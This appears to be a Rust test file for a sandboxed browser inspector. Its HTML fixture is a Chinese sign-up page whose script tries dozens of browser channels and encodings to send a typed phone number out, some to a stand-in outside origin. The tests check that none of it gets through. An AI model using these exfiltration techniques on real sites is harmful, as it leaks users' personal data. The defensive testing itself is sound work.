//! From the first typing on nothing leaves, by whatever a page finds to send.

use anning_inspect::{Page, Step, Target};
use anning_page::record::{Act, Opened, Record};

use crate::browser::{DESKTOP, with_browser};
use crate::server::{Answer, Server};

/// A wall that is remembered, a form, and every way out that is tried once something is typed and once it is sent.
const CUNNING: &str = r#"<!DOCTYPE html><html lang="zh-CN"><title>注册</title>
<link rel="stylesheet" href="/style.css"><img src="/logo.png">
<div id="w" role="dialog" aria-modal="true" style="position:fixed;inset:0;background:#fff"><p>同意接收优惠短信</p>
<button type="button" id="y">同意</button><button type="button" id="n">不接收</button></div>
<form id="f" method="post" action="/deliver/form"><input type="tel" id="m" name="mobile" placeholder="手机号">
<label><input type="checkbox" name="agree"> 同意<a id="t" href="/terms.html">《用户协议》</a></label><button>注册</button></form>
<p id="late"></p>
<script>
if (document.cookie.includes('no=1') || localStorage.no) w.remove();
y.onclick = () => w.remove();
n.onclick = () => { document.cookie = 'no=1'; localStorage.no = '1'; w.remove(); };
fetch('/read.json').catch(() => 0);
const OTHER = 'THEOTHER';
function out(tag) {
  const v = m.value, b = btoa('x' + v + tag), c = [...v].map((d) => 'abcdefghij'[d]).join('');
  const all = [
    () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['/deliver/spec?mobile=' + v + '&agree=1', OTHER + '/deliver/spec?m=' + v], eagerness: 'immediate' }], prerender: [{ source: 'list', urls: ['/deliver/prerender?m=' + c], eagerness: 'immediate' }] }); document.head.append(s); },
    () => new PaymentRequest([{ supportedMethods: location.origin + '/deliver/pay/' + c }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment(),
    () => navigator.credentials.get({ identity: { providers: [{ configURL: location.origin + '/deliver/fedcm/' + c, clientId: 'x', nonce: '1' }] } }).catch(() => 0),
    () => fetchLater('/deliver/later?d=' + c, { activateAfter: 0 }),
    () => fetch('/deliver/64?d=' + b).catch(() => 0), () => fetch('/deliver/cipher?d=' + c).catch(() => 0),
    () => fetch('/deliver/' + c + '.js').catch(() => 0),
    () => fetch('/deliver/keep?d=' + b, { keepalive: true }).catch(() => 0),
    () => { new Image().src = '/deliver/dash/' + v.split('').join('-'); }, () => { new Image().src = '/deliver/back/' + [...v].reverse().join(''); },
    () => fetch('/read.json', { headers: { 'x-data': v } }).catch(() => 0), () => fetch('/read.json', { headers: { accept: 'text/' + c } }).catch(() => 0),
    () => { document.cookie = 'ph=' + v + ';path=/'; document.cookie = 'pc=' + c + ';path=/'; localStorage.ph = v; return fetch('/read.json?').catch(() => 0); },
    () => cookieStore.set('ps', c),
    () => { history.pushState(null, '', '/?deliver=' + c); return fetch('/read.json').catch(() => 0); },
    () => { for (const rel of ['prefetch', 'preload', 'modulepreload', 'icon', 'stylesheet', 'preconnect', 'dns-prefetch', 'manifest']) { const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = '/deliver/' + rel + '?d=' + c; document.head.append(l); const o = l.cloneNode(); o.href = OTHER + '/deliver/' + rel; document.head.append(o); } },
    () => new WebSocket(location.origin.replace('http', 'ws') + '/deliver/ws/' + c), () => new WebSocketStream(location.origin.replace('http', 'ws') + '/deliver/wss/' + c),
    () => new EventSource('/deliver/events?d=' + c), () => navigator.sendBeacon('/deliver/beacon', v),
    () => { const q = window.open('about:blank'); new q.WebSocket(location.origin.replace('http', 'ws') + '/deliver/pop/' + c); q.fetch(location.origin + '/deliver/popfetch?d=' + c); q.document.write('<img src="/deliver/popimg?d=' + c + '">'); },
    () => window.open('/deliver/popup?d=' + c), () => { const i = document.createElement('iframe'); i.src = '/deliver/frame?d=' + c; document.body.append(i); },
    () => new Worker(URL.createObjectURL(new Blob(["fetch('" + location.origin + "/deliver/worker?d=" + c + "')"]))),
    () => navigator.serviceWorker.register('/deliver/sw.js?d=' + c),
    () => { late.innerHTML = '<a href="/deliver/terms/' + c + '.html">《隐私政策》</a>'; t.href = '/deliver/terms?d=' + c; },
    () => CSS.paintWorklet.addModule('/deliver/paint?d=' + c),
    () => { const a = document.createElement('a'); a.href = '/deliver/ping'; a.ping = '/deliver/pinged?d=' + c; document.body.append(a); a.click(); },
  ];
  for (const go of all) { try { const r = go(); if (r && r.catch) r.catch(() => 0); } catch { } }
}
let once = 0;
m.addEventListener('input', () => { if (!once++) out('I'); });
f.addEventListener('submit', (e) => { e.preventDefault(); out('S'); setTimeout(() => { location = '/deliver/nav?d=' + btoa('x' + m.value); }, 100); });
addEventListener('pagehide', () => { fetch('/deliver/bye?d=1', { keepalive: true }); navigator.sendBeacon('/deliver/hide', 'd'); });
</script>"#;

/// What the number looks like in the dresses above.
const DRESSES: &[&str] =
    &["19900000013", "1-9-9-0", "31000000991", "bjjaaaaaabd", "MTk5MDAwMDAwMTM", "5OTAwMDAwMDEz", "deliver"];

fn reading(page: String) -> Server {
    Server::start(move |path| match path {
        "/" => Answer::html(&page),
        "/terms.html" => Answer::html("<h1>协议</h1><p>协议全文，请阅读。</p>"),
        "/next.html" => Answer::html(
            "<form><p>下一步</p><button>完成</button></form><script>fetch('/x?'+location.hash.slice(1))</script>",
        ),
        "/style.css" => Answer::of("text/css", "p{color:red}"),
        "/logo.png" => Answer::of("image/png", ""),
        _ => Answer::of("application/json", "{}"),
    })
}

/// No connection carries what was typed, in any of its dresses.
fn is_clean(server: &Server) {
    for said in server.heads() {
        for dress in DRESSES {
            assert!(!said.contains(dress), "{dress} left: {said}");
        }
        assert!(said.starts_with("GET "), "{said}");
    }
}

fn kept(record: &Record, part: &str) -> bool {
    record.submits.iter().any(|submit| submit.address.contains(part))
}

#[test]
fn what_was_typed_leaves_by_no_way() {
    with_browser("leak", &["127.0.0.1"], |browser| {
        let other = Server::start(|_| Answer::html("other"));
        let server = reading(CUNNING.replace("THEOTHER", &other.origin()));
        let address = format!("{}/", server.origin());
        let page = Page::Address { address, origins: Vec::new() };
        let record = browser.record(&page, DESKTOP, None).unwrap().record;
        is_clean(&server);
        assert_eq!(other.heads(), Vec::<String>::new());
        for path in ["64?d=", "cipher?d=", "dash/", "back/", "beacon", "nav?d=", "keep?d="] {
            assert!(kept(&record, &format!("/deliver/{path}")), "not kept: {path}: {:#?}", record.submits);
        }
        let header =
            record.submits.iter().flat_map(|submit| &submit.fields).any(|(name, _)| name == "x-data");
        assert!(header, "{:#?}", record.submits);
        // It came back to the page, which remembers what was answered before something was typed.
        let back: Vec<_> = record.events.iter().filter(|event| event.act == Act::Reload).collect();
        assert!(!back.is_empty(), "{:#?}", record.events);
        assert!(back.iter().all(|event| record.states[event.after].dialogs.is_empty()));
        assert!(server.heads().iter().any(|said| said.to_lowercase().contains("cookie: no=1")));
        // A document whose address came up late is named, and not called dead.
        let late: Vec<_> =
            record.documents.iter().filter(|document| document.address.contains("deliver")).collect();
        assert!(late.iter().all(|document| document.opened == Opened::NotTried), "{late:#?}");
        assert!(record.documents.iter().any(|document| document.opened == Opened::Page));
        record.check().unwrap();
    });
}

#[test]
fn a_way_on_that_everybody_may_go_is_gone_without_what_was_typed() {
    let html = "<!DOCTYPE html><html lang=zh-CN><title>注册</title><form><input type=tel id=m placeholder=手机号>\
        <a id=on href=/next.html>下一步</a></form><script>on.addEventListener('click',()=>{document.cookie='ph='+m.value;on.href='/next.html#deliver'+m.value})</script>";
    with_browser("way_on", &["127.0.0.1"], |browser| {
        let server = reading(html.to_owned());
        let page = Page::Address { address: format!("{}/", server.origin()), origins: Vec::new() };
        let steps = [Step::Fill, Step::Click(Target::read("#on"))];
        let record = browser.record_flow(&page, &steps, DESKTOP, None).unwrap().record;
        is_clean(&server);
        let last = record.states.last().unwrap();
        assert!(last.address.ends_with("/next.html"), "{:#?}", record.events);
        assert!(server.log().contains(&"GET /next.html".to_owned()));
    });
}

#[test]
fn another_origin_that_a_page_leads_to_is_named() {
    with_browser("moved", &["127.0.0.1"], |browser| {
        let other = Server::start(|_| Answer::html("other"));
        let to = other.origin();
        let server = Server::start(move |_| Answer::with("302 Found", &format!("location: {to}/\r\n")));
        let page = Page::Address { address: format!("{}/", server.origin()), origins: Vec::new() };
        let record = browser.record(&page, DESKTOP, None).unwrap().record;
        let said = format!("--allow-origin {}", other.origin());
        assert!(record.notes.iter().any(|note| note.text.contains(&said)), "{:?}", record.notes);
        assert_eq!(other.heads(), Vec::<String>::new());
    });
}
